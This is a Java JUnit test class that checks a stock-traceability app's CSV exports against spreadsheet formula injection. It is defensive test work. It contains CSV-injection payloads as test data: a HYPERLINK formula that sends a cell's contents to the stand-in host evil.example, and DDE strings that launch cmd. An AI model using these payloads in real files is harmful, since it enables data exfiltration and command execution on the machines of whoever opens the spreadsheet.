package io.stocktrace.csv;

import static io.stocktrace.support.Scenario.line;
import static org.assertj.core.api.Assertions.assertThat;

import io.stocktrace.support.ApiTest;
import io.stocktrace.support.Http;
import java.io.IOException;
import java.io.StringReader;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * Every CSV the application writes, with a hostile product, lot and customer name: each cell a spreadsheet would run
 * as a formula comes out as text with a leading quote (OWASP), and the lots CSV still imports back unchanged.
 */
abstract class CsvInjectionTests extends ApiTest {
    private static final String PRODUCT = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    private static final String LOT = "+cmd|' /C calc'!A0";
    private static final String CUSTOMER = "@SUM(1+1)*cmd|' /C calc'!A0";

    private long lotId;
    private long recallId;

    @BeforeEach
    void hostileNamesShippedAndRecalled() {
        var product = admin.post("/api/v1/products", Map.of("sku", "EVIL", "name", PRODUCT, "tracking", "lot",
                "foodTraceabilityList", true));
        assertThat(product.status()).as(product.body()).isEqualTo(201);
        long productId = product.json().path("id").asLong();
        var partner = admin.post("/api/v1/partners", Map.of("name", CUSTOMER, "email", "evil@example.com"));
        assertThat(partner.status()).as(partner.body()).isEqualTo(201);
        long customer = partner.json().path("id").asLong();
        given.receivedLot(productId, LOT, 5);
        given.done(given.transfer("delivery", customer, line(productId, LOT, null, 2)));
        lotId = given.lotId(productId, LOT);
        var recall = admin.post("/api/v1/recalls", Map.of("lotId", lotId, "reason", "-1 test"));
        assertThat(recall.status()).as(recall.body()).isEqualTo(201);
        recallId = recall.at("/id").asLong();
    }

    @Test
    void the_products_lots_and_stock_exports_write_hostile_names_as_text() throws IOException {
        assertThat(cells(csv(admin, "/api/v1/exports/products.csv"))).contains("'" + PRODUCT);
        assertThat(cells(csv(admin, "/api/v1/exports/lots.csv"))).contains("'" + LOT);
        assertThat(cells(csv(admin, "/api/v1/exports/stock.csv"))).contains("'" + LOT, "3");
    }

    @Test
    void the_recall_customers_csv_writes_hostile_names_as_text() throws IOException {
        assertThat(cells(csv(admin, "/api/v1/recalls/" + recallId + "/customers.csv")))
                .contains("'" + CUSTOMER, "'" + PRODUCT, "'" + LOT, "2.0000");
    }

    @Test
    void the_traceability_csv_of_the_web_pages_writes_hostile_names_as_text() throws IOException {
        Http browser = Http.to(port).basic("admin", ADMIN_PASSWORD);
        assertThat(cells(csv(browser, "/lots/" + lotId + "/traceability.csv"))).contains("'" + PRODUCT, "'" + LOT);
    }

    @Test
    void the_fsma_204_csv_writes_hostile_names_as_text() throws IOException {
        assertThat(cells(csv(admin, "/api/v1/reports/fsma204?lotId=" + lotId))).contains("'" + LOT);
    }

    @Test
    void an_exported_lots_csv_with_quoted_cells_imports_back_unchanged() {
        String lots = admin.get("/api/v1/exports/lots.csv").body();
        var again = changesNothing(() -> admin.postRaw("/api/v1/imports/lots", lots, "text/csv"));
        assertThat(again.status()).as(again.body()).isEqualTo(200);
        assertThat(again.at("/created").asInt()).isZero();
        assertThat(again.at("/updated").asInt()).isZero();
    }

    private static List<CSVRecord> csv(Http http, String path) throws IOException {
        var response = http.get(path);
        assertThat(response.status()).as(path + ": " + response.body()).isEqualTo(200);
        assertThat(response.contentType()).startsWith("text/csv");
        return CSVFormat.RFC4180.builder().get().parse(new StringReader(response.body())).getRecords();
    }

    /** Every cell of the file; none may start as a formula. */
    private static List<String> cells(List<CSVRecord> records) {
        List<String> cells = new ArrayList<>();
        records.forEach(r -> cells.addAll(r.toList()));
        assertThat(cells).as("cells a spreadsheet would run").noneMatch(c -> !c.isEmpty() && "=+-@\t\r".indexOf(c.charAt(0)) >= 0);
        return cells;
    }
}
